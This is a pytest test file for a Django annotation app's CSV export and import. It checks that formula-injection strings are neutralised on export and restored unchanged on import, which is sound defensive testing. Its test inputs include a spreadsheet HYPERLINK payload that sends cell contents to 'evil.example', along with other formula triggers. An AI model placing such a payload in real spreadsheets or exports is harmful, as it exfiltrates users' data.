"""CSV exports cannot run formulas in a spreadsheet, and RateLab's CSV import undoes exactly that
escape: arbitrary text goes export -> import unchanged."""

import csv
import io
import random
import re
from pathlib import Path

import pytest
from defusedcsv import csv as defused
from django.core.management import call_command
from django.urls import reverse

from annotation.models import Response
from annotation.services.text import csv_safety
from tests.factories import load_dataset_records, load_rating_records

ROOT = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAMED_CASES = [
    "=1+2",
    "'=x",
    "@a",
    "-3",
    "+",
    "''=",
    "'",
    "''",
    "'tis",
    "''tis",
    "-",
    "-1,234.5",
    "|cmd",
    "=a|b",
    "=a\\|b",
    "'\\|=",
    "\tindented",
    "\r=1",
    "a\rb",
    '=HYPERLINK("http://evil.example/steal?"&A1,"click")',
    "%x",
    "plain text",
    "",
]


def random_texts(count, seed=20261124):
    """Strings built mostly from the characters that matter here: quotes, triggers, pipes, backslashes."""
    alphabet = ["'", "=", "+", "-", "@", "|", "\\", "%", "\t", "\r", "\n", '"', ",", "1", "a", " ", "é"]
    rng = random.Random(seed)
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 8))) for _ in range(count)]


def cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


def dangerous(cell):
    return cell.startswith(FORMULA_STARTS) and not re.match(r"^-?[0-9,\.]+$", cell)


def written_cell(text):
    out = io.StringIO()
    csv_safety.writer(out).writerow([text, 4, None])
    return cells(out.getvalue())[0]


@pytest.mark.parametrize("text", NAMED_CASES)
def test_restore_undoes_neutralise_exactly_and_no_written_cell_can_start_a_formula(text):
    written = written_cell(text)
    assert written == csv_safety.neutralise(text)
    assert csv_safety.restore(written) == text
    assert not dangerous(written)


def test_two_thousand_random_tricky_strings_round_trip_and_stay_inert():
    failures = [
        text
        for text in random_texts(2000)
        if csv_safety.restore(written_cell(text)) != text or dangerous(written_cell(text))
    ]
    assert failures == []


def test_our_rule_is_defusedcsvs_where_defusedcsv_has_one():
    # Outside the two gaps we fill (TAB/CR starts, look-alike quotes) the writer is defusedcsv's.
    differing = []
    for text in NAMED_CASES + random_texts(500):
        if text[:1] in ("\t", "\r", "'"):
            continue
        ours, theirs = io.StringIO(), io.StringIO()
        csv_safety.writer(ours).writerow([text])
        defused.writer(theirs).writerow([text])
        if ours.getvalue() != theirs.getvalue():
            differing.append(text)
    assert differing == []


def test_defusedcsv_alone_would_not_round_trip_text_that_starts_with_a_quote():
    # Why annotation/services/text/csv_safety.py exists: defusedcsv leaves "'=x" as it is, which reads back as "=x".
    out = io.StringIO()
    defused.writer(out).writerow(["'=x", "\t=1"])
    assert cells(out.getvalue()) == ["'=x", "\t=1"]
    assert csv_safety.neutralise("'=x") == "''=x"
    assert csv_safety.neutralise("\t=1") == "'\t=1"


HOSTILE = [*NAMED_CASES[:-1], *random_texts(60, seed=7)]


def hostile_study(owner):
    """A dataset whose every text field, and a worker id, holds hostile or tricky strings."""
    texts = [t for t in HOSTILE if t.strip()]
    records = [
        {
            "context_id": f"c{i}",
            "context": [{"speaker": "A", "text": text}, text + "!"],
            "references": [text],
            "responses": [{"system": "sys-a", "text": text}, {"system": "=sys", "text": "-" + text}],
            "note": text,
        }
        for i, text in enumerate(texts)
    ]
    dataset = load_dataset_records(records=records, name="hostile", owner=owner)
    load_rating_records(
        records=[{"context_id": "c0", "system": "sys-a", "worker": '=HYPERLINK("x")', "score": 3}],
        dataset=dataset,
        survey_name="hostile-ratings",
        owner=owner,
    )
    return dataset


def snapshot(dataset):
    return [
        (
            c.external_id,
            c.turns,
            c.meta,
            list(c.references.values_list("text", flat=True)),
            sorted(Response.objects.filter(context=c).values_list("system__name", "text", "meta")),
        )
        for c in dataset.contexts.order_by("position")
    ]


def test_hostile_text_round_trips_through_csv_export_and_import_unchanged(tmp_path, researcher):
    dataset = hostile_study(researcher)
    out, ratings_out = tmp_path / "d.csv", tmp_path / "r.csv"
    call_command(
        "export_dataset", "--dataset", "hostile", "--format", "csv", "--output", str(out), stderr=io.StringIO()
    )
    call_command(
        "export_ratings",
        "--dataset",
        "hostile",
        "--format",
        "csv",
        "--real-ids",
        "--output",
        str(ratings_out),
        stderr=io.StringIO(),
    )
    for path in (out, ratings_out):
        assert not [cell for cell in cells(path.read_text(encoding="utf-8")) if dangerous(cell)]
    call_command("import_dataset", str(out), "--name", "copy", stdout=io.StringIO())
    call_command("import_ratings", str(ratings_out), "--dataset", "copy", stdout=io.StringIO())
    copy = type(dataset).objects.get(name="copy")
    assert snapshot(copy) == snapshot(dataset)
    assert list(copy.surveys.get().ratings.values_list("annotator__worker_id", flat=True)) == ['=HYPERLINK("x")']


def test_downloaded_csvs_have_no_cell_a_spreadsheet_would_run(client, researcher):
    dataset = hostile_study(researcher)
    client.force_login(researcher)
    found = {}
    for what in ("dataset", "ratings"):
        response = client.get(reverse("annotation:dataset_download", args=[dataset.pk, what, "csv"]) + "?ids=real")
        found[what] = cells(response.content.decode())
        assert not [cell for cell in found[what] if dangerous(cell)], what
    assert '\'=HYPERLINK("http://evil.example/steal?"&A1,"click")' in found["dataset"]
    assert '\'=HYPERLINK("x")' in found["ratings"]


def test_every_csv_writer_under_annotation_goes_through_csv_safety():
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "annotation").rglob("*.py")
        if path.name != "csv_safety.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
